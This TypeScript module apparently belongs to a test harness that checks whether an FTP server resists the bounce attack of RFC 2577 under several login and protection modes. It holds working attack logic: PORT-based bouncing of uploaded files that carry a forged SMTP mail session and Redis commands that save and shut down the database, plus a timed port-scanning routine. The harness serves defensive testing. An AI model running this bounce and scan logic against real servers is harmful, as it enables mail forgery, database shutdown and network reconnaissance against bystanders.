/** The bounce attack (RFC 2577 2 and 3): a server aimed at a bystander, and used to find out about its ports. */
import { randomBytes } from 'node:crypto';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { sextet, Wire } from '../threats/wire.js';
import type { Served } from './berth.js';
import type { Door, Victim } from './victim.js';

/** What a mail server and a database would obey. */
export const MAIL =
  'HELO example.org\r\nMAIL FROM:<a@example.org>\r\nRCPT TO:<b@example.org>\r\nDATA\r\nforged\r\n.\r\n';
export const REDIS = 'SET forged 1\r\nSAVE\r\nSHUTDOWN\r\n';

/** How the attacker logs in, and what it asks for before. */
export type Guise = 'clear' | 'protected' | 'pinned' | 'pinned, TLS client';

/** Which command makes the connection. */
export type Load = 'RETR mail' | 'RETR redis' | 'LIST';

export interface Bounced {
  /** Replies to the last command of the preparation that was refused, or to PORT and to the transfer. */
  readonly replies: string;
  readonly connections: number;
  readonly octets: number;
  /** What came holds lines of the file or of the listing. */
  readonly payload: boolean;
}

/** The files that the attacker has uploaded before. */
export function load(server: Served): void {
  writeFileSync(join(server.home, 'mail'), MAIL);
  writeFileSync(join(server.home, 'redis'), REDIS);
  server.own?.();
}

const codeAndText = (text: string): string => text.split('\n').at(-1)!.replace(/\s+/g, ' ');

/** A session ready for PORT. With a pin, of a key that nobody has. */
export async function board(server: Served, guise: Guise, from: string): Promise<Wire> {
  const wire = await Wire.open({ host: server.host, port: server.port, from });
  if (guise === 'clear') return wire.login(server.user, server.password);
  await wire.secure();
  await wire.login(server.user, server.password);
  await wire.protect();
  if (guise === 'protected') return wire;
  const peer = randomBytes(32).toString('hex');
  const role = guise === 'pinned' ? 'auto' : 'client';
  await wire.must(200, `DCPA Self=session;Peer=sha-256:${peer};Role=${role}`);
  return wire;
}

/** Replies up to a final one; the session may end in between. */
async function finalOf(wire: Wire, line: string): Promise<string> {
  const first = await wire.send(line);
  if (first.code >= 200) return codeAndText(first.text);
  const last = await wire.next().catch(() => undefined);
  return `${first.code}, ${last ? codeAndText(last.text) : 'the session ended'}`;
}

/** Aims a server at the open port of a victim. */
export async function bounce(server: Served, guise: Guise, what: Load, victim: Victim): Promise<Bounced> {
  const wire = await board(server, guise, '127.0.0.1');
  victim.heard = '';
  const before = { connections: victim.connections, octets: victim.octets };
  const replies: string[] = [];
  try {
    const port = await wire.send(`PORT ${sextet(victim.host, victim.ports.open)}`);
    replies.push(codeAndText(port.text));
    replies.push(await finalOf(wire, what));
  } catch (error) {
    replies.push(error instanceof Error ? error.message : String(error));
  } finally {
    wire.close();
  }
  await victim.settled();
  const { connections, octets } = victim;
  return {
    replies: replies.join(' / '),
    connections: connections - before.connections,
    octets: octets - before.octets,
    payload: /forged|redis/.test(victim.heard),
  };
}

/** One look at a port through a server. */
export interface Probe {
  readonly reply: string;
  readonly milliseconds: number;
}

export interface ProbePlan {
  readonly guise: Guise;
  readonly doors: readonly Door[];
  /** Looks at each kind of port. */
  readonly count: number;
  /** Sessions at once. */
  readonly sessions: number;
}

/** Looks at ports in turn, over many sessions at once, so that load meets all kinds alike. */
export async function probePorts(
  server: Served,
  victim: Victim,
  { guise, doors, count, sessions }: ProbePlan,
): Promise<Record<Door, Probe[]>> {
  const found: Record<Door, Probe[]> = { open: [], closed: [], silent: [] };
  const work = Array.from({ length: count }, () => doors).flat();
  let next = 0;
  const one = async (): Promise<void> => {
    const wire = await board(server, guise, '127.0.0.1');
    try {
      while (next < work.length) {
        const door = work[next++]!;
        const aimed = await wire.send(`PORT ${sextet(victim.host, victim.ports[door])}`);
        const begun = performance.now();
        const reply = await finalOf(wire, 'RETR mail');
        const milliseconds = performance.now() - begun;
        found[door].push({ reply: `${codeAndText(aimed.text)} / ${reply}`, milliseconds });
      }
    } finally {
      wire.close();
    }
  };
  await Promise.all(Array.from({ length: sessions }, one));
  return found;
}
